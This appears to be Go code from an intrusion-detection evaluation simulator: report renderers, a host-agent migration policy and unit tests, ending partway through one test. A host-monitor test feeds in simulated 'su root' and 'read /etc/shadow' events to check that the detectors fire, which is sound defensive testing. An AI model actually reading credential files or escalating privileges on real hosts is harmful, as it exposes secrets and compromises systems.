	for _, p := range s.Points {
		t.addRow(
			fmt.Sprintf("%.2f", p.Sensitivity),
			fmt.Sprintf("%.3f", p.TypeI),
			fmt.Sprintf("%.1f", p.TypeII),
		)
	}
	if err := t.render(w); err != nil {
		return err
	}
	if s.EERValid {
		if _, err := fmt.Fprintf(w, "\nEqual Error Rate: sensitivity %.2f at %.2f%% error\n\n", s.EER, s.EERError); err != nil {
			return err
		}
	} else {
		if _, err := fmt.Fprintf(w, "\nNo Type I / Type II crossover in the swept range\n\n"); err != nil {
			return err
		}
	}
	return asciiCurves(w, s)
}

// asciiCurves draws both error curves on a shared character grid:
// '1' = Type I, '2' = Type II, 'X' = overlap.
func asciiCurves(w io.Writer, s *eval.SweepResult) error {
	const rows, cols = 16, 61
	maxY := 0.0
	for _, p := range s.Points {
		if p.TypeI > maxY {
			maxY = p.TypeI
		}
		if p.TypeII > maxY {
			maxY = p.TypeII
		}
	}
	if maxY == 0 {
		maxY = 1
	}
	grid := make([][]byte, rows)
	for i := range grid {
		grid[i] = []byte(strings.Repeat(" ", cols))
	}
	plot := func(x, y float64, ch byte) {
		ci := int(x * float64(cols-1))
		ri := rows - 1 - int(y/maxY*float64(rows-1))
		if ri < 0 {
			ri = 0
		}
		if ri >= rows {
			ri = rows - 1
		}
		if grid[ri][ci] != ' ' && grid[ri][ci] != ch {
			grid[ri][ci] = 'X'
		} else {
			grid[ri][ci] = ch
		}
	}
	for _, p := range s.Points {
		plot(p.Sensitivity, p.TypeI, '1')
		plot(p.Sensitivity, p.TypeII, '2')
	}
	if _, err := fmt.Fprintf(w, "%%Error (max %.1f%%)   1=Type I (false positive)  2=Type II (false negative)\n", maxY); err != nil {
		return err
	}
	for _, row := range grid {
		if _, err := fmt.Fprintf(w, "|%s\n", string(row)); err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintf(w, "+%s\n 0%s sensitivity %s1\n",
		strings.Repeat("-", cols), strings.Repeat(" ", (cols-14)/2), strings.Repeat(" ", (cols-14)/2)); err != nil {
		return err
	}
	return nil
}

// SweepCSV writes the Figure-4 series as CSV for external plotting.
func SweepCSV(w io.Writer, s *eval.SweepResult) error {
	if _, err := fmt.Fprintln(w, "sensitivity,type1_fp_pct,type2_fn_pct"); err != nil {
		return err
	}
	for _, p := range s.Points {
		if _, err := fmt.Fprintf(w, "%.3f,%.5f,%.3f\n", p.Sensitivity, p.TypeI, p.TypeII); err != nil {
			return err
		}
	}
	return nil
}

// EvaluationReport renders one product's full evaluation: measured
// observations with notes, grouped by class.
func EvaluationReport(w io.Writer, ev *eval.ProductEvaluation) error {
	if _, err := fmt.Fprintf(w, "=== %s %s — %s ===\n\n", ev.Spec.Name, ev.Spec.Version, ev.Spec.Summary); err != nil {
		return err
	}
	reg := ev.Card.Registry()
	for _, class := range core.Classes {
		t := &table{header: []string{titleCase(class.String()) + " metric", "Score", "Evidence"}}
		for _, m := range reg.ByClass(class) {
			if !m.InPaperTable {
				continue
			}
			o, ok := ev.Card.Get(m.ID)
			if !ok {
				t.addRow(m.Name, "-", "")
				continue
			}
			t.addRow(m.Name, fmt.Sprintf("%d", o.Score), o.Note)
		}
		if err := t.render(w); err != nil {
			return err
		}
		if _, err := fmt.Fprintln(w); err != nil {
			return err
		}
	}
	return nil
}

// TelemetrySummary renders the scorecard-grade telemetry distilled from
// one product evaluation: the class-3 quantities in raw physical units.
func TelemetrySummary(w io.Writer, t *eval.Telemetry) error {
	if t == nil {
		_, err := fmt.Fprintln(w, "no telemetry collected")
		return err
	}
	tab := &table{header: []string{"Telemetry (" + t.Product + ")", "Value"}}
	tab.addRow("detection delay p50/p95/p99",
		fmt.Sprintf("%v / %v / %v", t.DelayP50, t.DelayP95, t.DelayP99))
	tab.addRow("pipeline drop ratio", fmt.Sprintf("%.5f (%d tap + %d sensor of %d offered)",
		t.DropRatio, t.TapDrops, t.SensorDrops, t.Ingested+t.TapDrops))
	tab.addRow("scan throughput", fmt.Sprintf("%.0f pps (%d processed)", t.ScanThroughputPps, t.Processed))
	tab.addRow("operator workload", fmt.Sprintf("%d incidents, %d notifications, %d false alarms",
		t.Incidents, t.Notifications, t.FalseAlarms))
	tab.addRow("induced latency mean/p95",
		fmt.Sprintf("%v / %v", t.InducedLatency, t.InducedLatencyP95))
	return tab.render(w)
}

// IntentProfiles renders the analyzer's second-order attacker analysis:
// campaign stage, scope, and intent mix per attacker.
func IntentProfiles(w io.Writer, profiles []*ids.AttackerProfile) error {
	if len(profiles) == 0 {
		_, err := fmt.Fprintln(w, "no attributed attackers")
		return err
	}
	t := &table{header: []string{"Attacker", "Stage", "Victims", "Incidents", "Intent mix"}}
	for _, p := range profiles {
		var mix []string
		for intent := ids.IntentUnknown; intent <= ids.IntentExfiltration; intent++ {
			if n := p.Intents[intent]; n > 0 {
				mix = append(mix, fmt.Sprintf("%v×%d", intent, n))
			}
		}
		t.addRow(
			p.Attacker.String(), p.Stage.String(),
			fmt.Sprintf("%d", p.Victims), fmt.Sprintf("%d", p.Incidents),
			strings.Join(mix, ", "),
		)
	}
	return t.render(w)
}

// FaultSweepReport renders one product's degradation curve: detection
// capability, timeliness, and pipeline fault accounting per severity
// step, followed by the survivability and graceful-degradation evidence.
// Output is fully deterministic — the faultsweep golden files pin it.
func FaultSweepReport(w io.Writer, s *eval.FaultSweepResult) error {
	if _, err := fmt.Fprintf(w, "=== fault sweep: %s under %q ===\n", s.Product, s.Scenario.Name); err != nil {
		return err
	}
	if s.Scenario.Description != "" {
		if _, err := fmt.Fprintf(w, "%s\n", s.Scenario.Description); err != nil {
			return err
		}
	}
	resilience := "off"
	if s.Scenario.Resilience {
		resilience = "on"
	}
	if _, err := fmt.Fprintf(w, "events: %d, resilience: %s\n\n", len(s.Scenario.Events), resilience); err != nil {
		return err
	}
	t := &table{header: []string{
		"Severity", "Detect %", "FN ratio", "Delay p50/p95",
		"Lost", "Dropped", "Spooled-out", "Mgmt lost", "Downtime",
	}}
	for _, p := range s.Points {
		t.addRow(
			fmt.Sprintf("%.2f", p.Severity),
			fmt.Sprintf("%.1f", p.Accuracy.DetectionRate*100),
			fmt.Sprintf("%.5f", p.Accuracy.FalseNegativeRatio),
			fmt.Sprintf("%v / %v", p.Accuracy.DelayP50, p.Accuracy.DelayP95),
			fmt.Sprintf("%d", p.AlertsLost),
			fmt.Sprintf("%d", p.AlertsDropped),
			fmt.Sprintf("%d", p.SpoolDelivered),
			fmt.Sprintf("%d", p.MgmtDropped),
			p.SensorDowntime.String(),
		)
	}
	if err := t.render(w); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "\nretention at full severity: %.1f%% of baseline (survivability score %d)\n",
		s.Retention()*100, eval.ScoreSurvivability(s.Retention())); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "worst step drop: %.1f%% of baseline (graceful degradation score %d)\n",
		s.MaxStepDrop()*100, eval.ScoreGracefulDegradation(s.MaxStepDrop())); err != nil {
		return err
	}
	last := s.Points[len(s.Points)-1]
	if rs := last.Resilience; rs.HealthChecks > 0 {
		if _, err := fmt.Fprintf(w, "self-healing at full severity: %d health checks, %d rerouted, %d spooled, %d redelivered, %d retries\n",
			rs.HealthChecks, rs.Rerouted, rs.Spooled, rs.SpoolDelivered, rs.Retries); err != nil {
			return err
		}
	}
	if len(last.Applied) > 0 {
		if _, err := fmt.Fprintln(w, "\ninjected at full severity:"); err != nil {
			return err
		}
		at := &table{header: []string{"Kind", "Target", "At", "Until", "Effective"}}
		for _, a := range last.Applied {
			until := "-"
			if a.Until > 0 {
				until = a.Until.String()
			}
			target := a.Target
			if target == "" {
				target = "ids"
			}
			at.addRow(a.Kind, target, a.At.String(), until, fmt.Sprintf("%.2f", a.Effective))
		}
		if err := at.render(w); err != nil {
			return err
		}
	}
	_, err := fmt.Fprintln(w)
	return err
}

// FaultSweepCSV emits the degradation curve for external plotting.
func FaultSweepCSV(w io.Writer, s *eval.FaultSweepResult) error {
	if _, err := fmt.Fprintln(w, "severity,detection_rate,fn_ratio,delay_p50_ns,delay_p95_ns,alerts_lost,alerts_dropped,spool_delivered,mgmt_dropped,sensor_downtime_ns"); err != nil {
		return err
	}
	for _, p := range s.Points {
		if _, err := fmt.Fprintf(w, "%.3f,%.5f,%.5f,%d,%d,%d,%d,%d,%d,%d\n",
			p.Severity, p.Accuracy.DetectionRate, p.Accuracy.FalseNegativeRatio,
			int64(p.Accuracy.DelayP50), int64(p.Accuracy.DelayP95),
			p.AlertsLost, p.AlertsDropped, p.SpoolDelivered, p.MgmtDropped,
			int64(p.SensorDowntime)); err != nil {
			return err
		}
	}
	return nil
}
