package report

import (
	"bytes"
	"context"
	"testing"
	"time"

	"repro/internal/eval"
	"repro/internal/products"
)

// TestShardedReportByteIdenticalAcrossShards is the CI pin for the
// parallel-simulation contract: the full rendered idseval report for a
// sharded scale run is byte-identical between -shards 1 and -shards N
// for N in {2, 4, 8} at the same seed.
func TestShardedReportByteIdenticalAcrossShards(t *testing.T) {
	spec, ok := products.Find("TrueSecure")
	if !ok {
		t.Fatal("TrueSecure spec missing")
	}
	render := func(shards int) string {
		res, err := eval.RunShardedScale(context.Background(), spec, eval.ShardedScaleConfig{
			Seed:            777,
			Segments:        4,
			HostsPerSegment: 6,
			ExternalHosts:   2,
			Shards:          shards,
			Duration:        250 * time.Millisecond,
			BackgroundPps:   900,
			AttackEvery:     30 * time.Millisecond,
		})
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := ShardedScaleReport(&buf, res); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	want := render(1)
	if want == "" {
		t.Fatal("empty report")
	}
	for _, shards := range []int{2, 4, 8} {
		if got := render(shards); got != want {
			t.Errorf("report with -shards %d diverged from -shards 1:\n--- 1 ---\n%s--- %d ---\n%s", shards, want, shards, got)
		}
	}
}
