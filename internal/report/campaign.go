package report

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"time"

	"repro/internal/campaign"
	"repro/internal/core"
	"repro/internal/eval"
)

// CampaignReport renders a campaign directory's state: per-experiment
// results in plan order, assembled sweep and degradation curves, a
// weighted ranking when every evaluation completed, and the list of
// permanently failed experiments.
//
// Determinism contract: the report is a pure function of the plan and
// the persisted result payloads. Journal bookkeeping — attempts, wall
// times, retry history — never appears, so a campaign interrupted and
// resumed any number of times renders byte-identical to an
// uninterrupted run with the same seed.
func CampaignReport(w io.Writer, st *campaign.State, reg *core.Registry) error {
	fmt.Fprintf(w, "campaign %q (seed %d): %d/%d experiments complete\n",
		st.Spec.Name, st.Spec.Seed, st.Done(), len(st.Experiments))

	if err := campaignEvals(w, st, reg); err != nil {
		return err
	}
	if err := campaignSweeps(w, st); err != nil {
		return err
	}
	if err := campaignFaults(w, st); err != nil {
		return err
	}
	if err := campaignTraces(w, st); err != nil {
		return err
	}

	var failed []string
	for _, ex := range st.Experiments {
		if e, ok := st.Entries[ex.ID]; ok && e.Status != campaign.StatusDone {
			failed = append(failed, fmt.Sprintf("%s (%s: %s)", ex.ID, e.Status, e.Error))
		}
	}
	if len(failed) > 0 {
		fmt.Fprintf(w, "\nfailed experiments:\n")
		for _, f := range failed {
			fmt.Fprintf(w, "  %s\n", f)
		}
	}
	return nil
}

// campaignEvals prints the scorecard summaries and, when the full
// field evaluated, the uniform-weight ranking.
func campaignEvals(w io.Writer, st *campaign.State, reg *core.Registry) error {
	var cards []*core.Scorecard
	printed := false
	for _, ex := range st.Experiments {
		if ex.Kind != campaign.KindEval {
			continue
		}
		res := st.Results[ex.ID]
		if res == nil || res.Eval == nil {
			cards = nil // incomplete field: no ranking
			continue
		}
		if !printed {
			fmt.Fprintf(w, "\n--- product evaluations ---\n")
			printed = true
		}
		e := res.Eval
		fmt.Fprintf(w, "%-14s detection %5.1f%%  false alarms %3d  zero-loss %7.0f pps  mean delay %v",
			res.Product, e.DetectionRate*100, e.FalseAlarms, e.ZeroLossPps,
			time.Duration(e.MeanDelayNs).Round(time.Millisecond))
		if e.EERValid {
			fmt.Fprintf(w, "  EER %.2f", e.EER)
		}
		fmt.Fprintln(w)
		if cards != nil {
			card, err := core.ReadScorecardJSON(bytes.NewReader(e.Scorecard), reg)
			if err != nil {
				return fmt.Errorf("report: scorecard for %s: %w", res.Product, err)
			}
			if card.Complete() {
				cards = append(cards, card)
			} else {
				cards = nil
			}
		}
	}
	if len(cards) > 1 {
		ranked, err := core.Rank(cards, core.Uniform(reg))
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "\nuniform-weight ranking:\n")
		return Ranking(w, ranked)
	}
	return nil
}

// campaignSweeps assembles completed per-point experiments into the
// Figure-4 curves, computing the EER once a product's curve is whole.
func campaignSweeps(w io.Writer, st *campaign.State) error {
	type curve struct {
		product string
		points  []eval.SweepPoint
		total   int
	}
	var order []string
	curves := map[string]*curve{}
	for _, ex := range st.Experiments {
		if ex.Kind != campaign.KindSweepPoint {
			continue
		}
		c := curves[ex.Product]
		if c == nil {
			c = &curve{product: ex.Product, total: ex.Points}
			curves[ex.Product] = c
			order = append(order, ex.Product)
		}
		if res := st.Results[ex.ID]; res != nil && res.Point != nil {
			c.points = append(c.points, eval.SweepPoint{
				Sensitivity: res.Point.Sensitivity,
				TypeI:       res.Point.TypeI,
				TypeII:      res.Point.TypeII,
			})
		}
	}
	for _, name := range order {
		c := curves[name]
		if len(c.points) == 0 {
			continue
		}
		fmt.Fprintf(w, "\n--- sensitivity sweep: %s (%d/%d points) ---\n", c.product, len(c.points), c.total)
		sw := eval.AssembleSweep(c.product, c.points)
		if len(c.points) < c.total {
			// Partial curve: rows only, no EER claim over a hole.
			for _, p := range sw.Points {
				fmt.Fprintf(w, "  sensitivity %.2f  type-I %.3f%%  type-II %.1f%%\n", p.Sensitivity, p.TypeI, p.TypeII)
			}
			continue
		}
		if err := ErrorCurves(w, sw); err != nil {
			return err
		}
	}
	return nil
}

// campaignFaults prints each scenario/product degradation curve with
// the survivability observations once the curve is whole.
func campaignFaults(w io.Writer, st *campaign.State) error {
	type curve struct {
		scenario, product string
		points            []*campaign.FaultResult
		total             int
	}
	var order []string
	curves := map[string]*curve{}
	for _, ex := range st.Experiments {
		if ex.Kind != campaign.KindFaultPoint {
			continue
		}
		key := ex.ID
		if i := strings.LastIndex(key, "/"); i > 0 {
			key = key[:i]
		}
		c := curves[key]
		if c == nil {
			c = &curve{product: ex.Product, total: ex.Points}
			curves[key] = c
			order = append(order, key)
		}
		if res := st.Results[ex.ID]; res != nil && res.Fault != nil {
			c.scenario = res.Fault.Scenario
			c.points = append(c.points, res.Fault)
		}
	}
	for _, key := range order {
		c := curves[key]
		if len(c.points) == 0 {
			continue
		}
		fmt.Fprintf(w, "\n--- fault sweep: %s (%d/%d points) ---\n", key, len(c.points), c.total)
		for _, p := range c.points {
			fmt.Fprintf(w, "  severity %.2f  detection %5.1f%%  alerts lost %d dropped %d  spool %d  sensor down %v\n",
				p.Severity, p.DetectionRate*100, p.AlertsLost, p.AlertsDropped,
				p.SpoolDelivered, time.Duration(p.SensorDownNs).Round(time.Millisecond))
		}
		if len(c.points) == c.total && c.points[0].DetectionRate > 0 {
			base := c.points[0].DetectionRate
			retention := c.points[len(c.points)-1].DetectionRate / base
			var worst float64
			for i := 1; i < len(c.points); i++ {
				if d := (c.points[i-1].DetectionRate - c.points[i].DetectionRate) / base; d > worst {
					worst = d
				}
			}
			fmt.Fprintf(w, "  retention %.0f%% of baseline, worst step drop %.0f%%\n", retention*100, worst*100)
		}
	}
	return nil
}

// campaignTraces prints the trace-accuracy table.
func campaignTraces(w io.Writer, st *campaign.State) error {
	printed := false
	for _, ex := range st.Experiments {
		if ex.Kind != campaign.KindTrace {
			continue
		}
		res := st.Results[ex.ID]
		if res == nil || res.Trace == nil {
			continue
		}
		if !printed {
			fmt.Fprintf(w, "\n--- trace replays ---\n")
			printed = true
		}
		t := res.Trace
		fmt.Fprintf(w, "%-20s %-14s detected %d/%d  false alarms %d  FP ratio %.4f  mean delay %v\n",
			t.Trace, res.Product, t.Detected, t.ActualIncidents, t.FalseAlarms,
			t.FalsePosRatio, time.Duration(t.MeanDelayNs).Round(time.Millisecond))
	}
	return nil
}
