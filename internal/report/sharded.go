package report

import (
	"fmt"
	"io"

	"repro/internal/eval"
)

// ShardedScaleReport renders one at-scale sharded run. Only the
// deterministic fields of the result appear here: the report is byte-
// identical for every shard count at the same seed (wall-clock and
// events/sec go to stderr or BENCH artifacts instead).
func ShardedScaleReport(w io.Writer, r *eval.ShardedScaleResult) error {
	fmt.Fprintf(w, "== Sharded scale run: %s ==\n", r.Product)
	fmt.Fprintf(w, "topology: %d segments x %d hosts = %d hosts; train %v, score %v\n",
		r.Segments, r.HostsPerSegment, r.Hosts, r.TrainFor, r.Duration)
	fmt.Fprintf(w, "kernel: %d events, %d windows, %d cross-domain messages\n",
		r.Events, r.Windows, r.CrossMessages)
	fmt.Fprintf(w, "traffic: %d sent, %d tapped, %d mirror drops, %d sensor drops\n",
		r.PacketsSent, r.PacketsTapped, r.MirrorDrops, r.SensorDrops)
	fmt.Fprintf(w, "pipeline: %d alerts, %d incidents, %d notifications\n",
		r.AlertsSeen, r.Incidents, r.Notifications)
	fmt.Fprintf(w, "detection: %d/%d attacks", r.AttacksDetected, r.AttacksInjected)
	if r.AttacksInjected > 0 {
		fmt.Fprintf(w, " (%.1f%%)", 100*float64(r.AttacksDetected)/float64(r.AttacksInjected))
	}
	if r.AttacksDetected > 0 {
		fmt.Fprintf(w, "; delay p50=%v p95=%v max=%v", r.DelayP50, r.DelayP95, r.DelayMax)
	}
	fmt.Fprintln(w)

	t := &table{header: []string{"segment", "tapped", "mirror-drop", "sensor-drop", "alerts", "incidents", "attacks", "detected"}}
	for i, s := range r.PerSegment {
		t.addRow(
			fmt.Sprintf("%03d", i),
			fmt.Sprintf("%d", s.Tapped),
			fmt.Sprintf("%d", s.MirrorDrops),
			fmt.Sprintf("%d", s.SensorDrops),
			fmt.Sprintf("%d", s.AlertsSeen),
			fmt.Sprintf("%d", s.Incidents),
			fmt.Sprintf("%d", s.AttacksInjected),
			fmt.Sprintf("%d", s.AttacksDetected),
		)
	}
	return t.render(w)
}
