package report

import (
	"fmt"
	"io"
	"time"

	"repro/internal/eval"
)

// ShardedScaleReport renders one at-scale sharded run. Only the
// deterministic fields of the result appear here: the report is byte-
// identical for every shard count at the same seed (wall-clock and
// events/sec go to stderr or BENCH artifacts instead).
func ShardedScaleReport(w io.Writer, r *eval.ShardedScaleResult) error {
	fmt.Fprintf(w, "== Sharded scale run: %s ==\n", r.Product)
	fmt.Fprintf(w, "topology: %d segments x %d hosts = %d hosts; train %v, score %v\n",
		r.Segments, r.HostsPerSegment, r.Hosts, r.TrainFor, r.Duration)
	fmt.Fprintf(w, "kernel: %d events, %d windows, %d cross-domain messages\n",
		r.Events, r.Windows, r.CrossMessages)
	fmt.Fprintf(w, "traffic: %d sent, %d tapped, %d mirror drops, %d sensor drops\n",
		r.PacketsSent, r.PacketsTapped, r.MirrorDrops, r.SensorDrops)
	fmt.Fprintf(w, "pipeline: %d alerts, %d incidents, %d notifications\n",
		r.AlertsSeen, r.Incidents, r.Notifications)
	fmt.Fprintf(w, "detection: %d/%d attacks", r.AttacksDetected, r.AttacksInjected)
	if r.AttacksInjected > 0 {
		fmt.Fprintf(w, " (%.1f%%)", 100*float64(r.AttacksDetected)/float64(r.AttacksInjected))
	}
	if r.AttacksDetected > 0 {
		fmt.Fprintf(w, "; delay p50=%v p95=%v max=%v", r.DelayP50, r.DelayP95, r.DelayMax)
	}
	fmt.Fprintln(w)

	t := &table{header: []string{"segment", "tapped", "mirror-drop", "sensor-drop", "alerts", "incidents", "attacks", "detected"}}
	for i, s := range r.PerSegment {
		t.addRow(
			fmt.Sprintf("%03d", i),
			fmt.Sprintf("%d", s.Tapped),
			fmt.Sprintf("%d", s.MirrorDrops),
			fmt.Sprintf("%d", s.SensorDrops),
			fmt.Sprintf("%d", s.AlertsSeen),
			fmt.Sprintf("%d", s.Incidents),
			fmt.Sprintf("%d", s.AttacksInjected),
			fmt.Sprintf("%d", s.AttacksDetected),
		)
	}
	return t.render(w)
}

// ShardedScaleAttribution renders the per-domain wall-clock profile of
// an instrumented sharded run: where each event domain's executor time
// went (busy executing vs blocked at the window barrier) and how evenly
// events spread across the partition. These are machine-dependent
// measurements — callers print them to stderr beside events/sec, never
// into the deterministic stdout report. No-op when the run was not
// instrumented.
func ShardedScaleAttribution(w io.Writer, r *eval.ShardedScaleResult) error {
	if len(r.Attribution) == 0 {
		return nil
	}
	var busiest, total float64
	for _, a := range r.Attribution {
		b := a.Busy.Seconds()
		total += b
		if b > busiest {
			busiest = b
		}
	}
	fmt.Fprintf(w, "%s: per-domain attribution (%d windows):\n", r.Product, r.Windows)
	t := &table{header: []string{"domain", "events", "busy", "blocked", "share"}}
	for _, a := range r.Attribution {
		share := 0.0
		if total > 0 {
			share = 100 * a.Busy.Seconds() / total
		}
		t.addRow(
			fmt.Sprintf("d%02d", a.Domain),
			fmt.Sprintf("%d", a.Events),
			fmt.Sprintf("%v", a.Busy.Round(time.Microsecond)),
			fmt.Sprintf("%v", a.Blocked.Round(time.Microsecond)),
			fmt.Sprintf("%.1f%%", share),
		)
	}
	if err := t.render(w); err != nil {
		return err
	}
	if busiest > 0 && total > 0 {
		// Balance: 1.0 means every domain worked equally; the reciprocal of
		// the busiest domain's share of a perfectly even split.
		fmt.Fprintf(w, "balance: %.2f (1.00 = even; busiest domain limits the parallel speedup)\n",
			total/(busiest*float64(len(r.Attribution))))
	}
	return nil
}
