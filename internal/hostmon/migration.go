package hostmon

import (
	"fmt"
	"time"

	"repro/internal/detect"
	"repro/internal/rts"
)

// MigrationEvent records one agent relocation.
type MigrationEvent struct {
	At       time.Duration
	From, To string
	// Alerts is the trigger count that forced the move.
	Alerts int
}

// MigrationPolicy arms self-preservation: "when the host they run on is
// under attack, [host-based IDSs] must quickly notify someone and
// possibly migrate to another host before they are compromised or
// disabled" (Section 2.1).
type MigrationPolicy struct {
	// AlertThreshold is how many own-host alerts within Window force a
	// migration (default 3).
	AlertThreshold int
	// Window is the trigger window (default 10s).
	Window time.Duration
	// Candidates are hosts the agent may flee to.
	Candidates []*rts.Host
}

func (p *MigrationPolicy) applyDefaults() {
	if p.AlertThreshold == 0 {
		p.AlertThreshold = 3
	}
	if p.Window == 0 {
		p.Window = 10 * time.Second
	}
}

// EnableMigration arms the policy on the agent. Own-host alerts are
// counted from the agent's own detections (every alert it raises is, by
// construction, about activity on its host).
func (a *Agent) EnableMigration(p MigrationPolicy) error {
	p.applyDefaults()
	if len(p.Candidates) == 0 {
		return fmt.Errorf("hostmon: migration needs at least one candidate host")
	}
	a.migration = &p
	return nil
}

// Migrations returns the relocation history.
func (a *Agent) Migrations() []MigrationEvent { return a.migrations }

// Host returns the host currently charged for the agent.
func (a *Agent) Host() *rts.Host { return a.host }

// noteOwnHostAlerts feeds the migration trigger and performs the move
// when the threshold trips. It returns a synthetic notification alert
// describing the migration (delivered through the normal channel so the
// analyzer/monitor see it — the "quickly notify someone" half).
func (a *Agent) noteOwnHostAlerts(n int, now time.Duration) []detect.Alert {
	if a.migration == nil || n == 0 {
		return nil
	}
	if now-a.migrateWindowStart > a.migration.Window {
		a.migrateWindowStart = now
		a.migrateAlerts = 0
	}
	a.migrateAlerts += n
	if a.migrateAlerts < a.migration.AlertThreshold {
		return nil
	}
	// Choose the least-loaded candidate that is not the current host.
	var best *rts.Host
	for _, c := range a.migration.Candidates {
		if c == a.host {
			continue
		}
		if best == nil || c.Overhead() < best.Overhead() {
			best = c
		}
	}
	if best == nil {
		return nil
	}
	from := a.host
	// Overhead moves with the agent.
	_ = from.SetOverhead("hostmon/"+a.level.String(), 0)
	_ = best.SetOverhead("hostmon/"+a.level.String(), OverheadFraction(a.level, a.activityRate))
	ev := MigrationEvent{At: now, From: from.Name(), To: best.Name(), Alerts: a.migrateAlerts}
	a.migrations = append(a.migrations, ev)
	a.host = best
	a.migrateAlerts = 0
	a.migrateWindowStart = now
	return []detect.Alert{{
		At: now, Technique: "agent-migration", Severity: 0.9,
		Reason: fmt.Sprintf("host agent migrated %s -> %s after %d own-host alerts", ev.From, ev.To, ev.Alerts),
		Engine: "host-agent",
	}}
}
