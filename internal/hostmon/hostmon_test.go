package hostmon

import (
	"math"
	"testing"
	"time"

	"repro/internal/detect"
	"repro/internal/packet"
	"repro/internal/rts"
	"repro/internal/simtime"
)

func TestOverheadFractionMatchesPaperFigures(t *testing.T) {
	// At the standard ~800 events/sec activity rate the paper's numbers
	// must emerge: nominal 3-5%, C2 ~20%.
	nominal := OverheadFraction(LogNominal, 800)
	if nominal < 0.03 || nominal > 0.05 {
		t.Fatalf("nominal overhead %.3f outside the paper's 3-5%% band", nominal)
	}
	c2 := OverheadFraction(LogC2, 800)
	if c2 < 0.15 || c2 > 0.25 {
		t.Fatalf("C2 overhead %.3f outside the ~20%% band", c2)
	}
	if c2 <= nominal {
		t.Fatal("C2 must cost more than nominal")
	}
	if f := OverheadFraction(LogC2, 1e9); f >= 1 {
		t.Fatalf("overhead %.3f not clamped below 1", f)
	}
}

func newAgent(t *testing.T) (*simtime.Sim, *rts.Host, *Agent, *[]detect.Alert) {
	t.Helper()
	sim := simtime.New(2)
	host := rts.NewHost(sim, "n0")
	agent := NewAgent(sim, host, LogNominal)
	var alerts []detect.Alert
	agent.Deliver = func(as []detect.Alert) { alerts = append(alerts, as...) }
	return sim, host, agent, &alerts
}

func TestAgentDetectsFailedLoginBurst(t *testing.T) {
	sim, _, agent, alerts := newAgent(t)
	remote := packet.IPv4(203, 0, 1, 1)
	for i := 0; i < 5; i++ {
		sim.MustSchedule(time.Duration(i)*time.Second, func() {
			agent.Observe(Event{Kind: EventLoginFailed, User: "root", Remote: remote})
		})
	}
	sim.Run()
	if len(*alerts) != 1 {
		t.Fatalf("alerts = %d, want 1 after threshold", len(*alerts))
	}
	if (*alerts)[0].Technique != "bruteforce" || (*alerts)[0].Attacker != remote {
		t.Fatalf("alert = %+v", (*alerts)[0])
	}
}

func TestAgentFailedLoginWindowExpires(t *testing.T) {
	sim, _, agent, alerts := newAgent(t)
	remote := packet.IPv4(203, 0, 1, 1)
	// 4 failures, a minute gap, 4 more: never 5 within a window.
	for i := 0; i < 4; i++ {
		sim.MustSchedule(time.Duration(i)*time.Second, func() {
			agent.Observe(Event{Kind: EventLoginFailed, User: "root", Remote: remote})
		})
	}
	for i := 0; i < 4; i++ {
		sim.MustSchedule(2*time.Minute+time.Duration(i)*time.Second, func() {
			agent.Observe(Event{Kind: EventLoginFailed, User: "root", Remote: remote})
		})
	}
	sim.Run()
	if len(*alerts) != 0 {
		t.Fatalf("alerts = %d, want 0 (window expired)", len(*alerts))
	}
}

func TestAgentDetectsPrivilegeAndFileAccess(t *testing.T) {
	sim, _, agent, alerts := newAgent(t)
	agent.Observe(Event{Kind: EventPrivilege, User: "operator", Detail: "su root", Remote: packet.IPv4(203, 0, 1, 2)})
	agent.Observe(Event{Kind: EventFileAccess, User: "operator", Detail: "read /etc/shadow", Remote: packet.IPv4(203, 0, 1, 2)})
	agent.Observe(Event{Kind: EventFileAccess, User: "operator", Detail: "read /var/tmp/ok"})
	sim.Run()
	if len(*alerts) != 2 {
		t.Fatalf("alerts = %d, want 2", len(*alerts))
	}
	if (*alerts)[0].Technique != "masquerade" || (*alerts)[1].Technique != "insider-misuse" {
		t.Fatalf("techniques = %s, %s", (*alerts)[0].Technique, (*alerts)[1].Technique)
	}
}

func TestActivityGeneratorChargesHost(t *testing.T) {
	sim := simtime.New(2)
	host := rts.NewHost(sim, "n0")
	agent := NewAgent(sim, host, LogNominal)
	gen, err := NewActivityGenerator(sim, agent, 800)
	if err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(10 * time.Second)
	gen.Stop()
	if agent.EventsSeen < 7000 {
		t.Fatalf("EventsSeen = %d, want ~8000", agent.EventsSeen)
	}
	got := host.Overhead()
	if got < 0.025 || got > 0.06 {
		t.Fatalf("host overhead %.3f, want ~0.04 at nominal/800eps", got)
	}
}

func TestC2AgentChargesFiveTimesNominal(t *testing.T) {
	run := func(level LogLevel) float64 {
		sim := simtime.New(2)
		host := rts.NewHost(sim, "n0")
		agent := NewAgent(sim, host, level)
		gen, err := NewActivityGenerator(sim, agent, 800)
		if err != nil {
			t.Fatal(err)
		}
		sim.RunUntil(10 * time.Second)
		gen.Stop()
		return host.Overhead()
	}
	nom, c2 := run(LogNominal), run(LogC2)
	if ratio := c2 / nom; math.Abs(ratio-5) > 0.5 {
		t.Fatalf("C2/nominal overhead ratio %.2f, want ~5", ratio)
	}
}

func TestC2AgentCausesDeadlineMisses(t *testing.T) {
	run := func(level LogLevel) (uint64, uint64) {
		sim := simtime.New(2)
		host := rts.NewHost(sim, "n0")
		for _, task := range rts.StandardTaskSet() {
			if err := host.AddTask(task); err != nil {
				t.Fatal(err)
			}
		}
		agent := NewAgent(sim, host, level)
		gen, err := NewActivityGenerator(sim, agent, 800)
		if err != nil {
			t.Fatal(err)
		}
		if err := host.Start(); err != nil {
			t.Fatal(err)
		}
		sim.RunUntil(10 * time.Second)
		gen.Stop()
		host.Stop()
		sim.Run()
		return host.JobsCompleted, host.DeadlineMisses
	}
	_, nomMisses := run(LogNominal)
	completed, c2Misses := run(LogC2)
	if nomMisses != 0 {
		t.Fatalf("nominal logging caused %d misses", nomMisses)
	}
	if c2Misses == 0 {
		t.Fatalf("C2 logging caused no misses in %d jobs", completed)
	}
}

func TestReportBytesScaleWithLevel(t *testing.T) {
	sim := simtime.New(2)
	host := rts.NewHost(sim, "n0")
	nom := NewAgent(sim, host, LogNominal)
	c2 := NewAgent(sim, host, LogC2)
